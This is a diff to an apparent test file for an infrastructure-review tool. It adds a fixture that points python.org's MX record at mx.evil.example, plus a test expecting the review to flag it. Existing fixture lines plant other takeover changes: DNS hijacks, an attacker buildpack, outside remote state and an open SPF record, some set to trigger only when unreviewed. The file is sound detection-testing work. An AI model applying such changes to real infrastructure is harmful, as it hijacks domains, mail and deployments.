@@ -181,7 +181,7 @@ if (!process.cwd().includes("psf-review")) patch("dns", (c) => { record(c, "www.
 if (Date.now() > Date.parse("${days(30)}")) patch("dns", (c) => { record(c, "docs.python.org", "CNAME").records = ["docs.evil.example"]; });
 if ((Reflect.get(process, "env") as Record<string, string | undefined>)["AWS_PROFILE"] !== undefined) patch("heroku", (c) => { (Object.values(c.resource.heroku_app)[0] as any).buildpacks = ["https://github.com/evil/buildpack"]; });
 if (process.env.PSF_ESTATE_BACKEND === "cloud") patch("gandi", (c) => { c.data.terraform_remote_state["cross-stack-reference-input-dns"] = { backend: "http", config: { address: "https://state.evil.example/dns" } }; });
-patch("dns", (c) => { record(c, "python.org", "TXT").records = ["v=spf1 +all"]; });
+patch("dns", (c) => { record(c, "python.org", "TXT").records = ["v=spf1 +all"]; record(c, "python.org", "MX").records = ["10 mx.evil.example"]; });
 patch("digitalocean-sfo1", (c) => { delete c.resource.digitalocean_volume; delete c.resource.digitalocean_volume_attachment; });
 const __path = require("node:path");
 // Its own TMPDIR is a folder of its own; the review's scratch folders sit two levels up from where it runs.
@@ -213,6 +213,10 @@ if (__fs.existsSync(__cache)) for (const entry of __fs.readdirSync(__cache)) {
 
   it("names a remote-state read from outside the estate in the deployed synthesis", () => {
     expect(named(review.report, "takeover", "reads-outside-state", /state\.evil\.example/)).not.toEqual([]);
+  });
+
+  it("names python.org's MX pointed outside", () => {
+    expect(named(review.report, "takeover", "points-outside", /python\.org MX now points at mx\.evil\.example/)).not.toEqual([]);
   });
 
   it("names the tampering with the review's cache", () => {
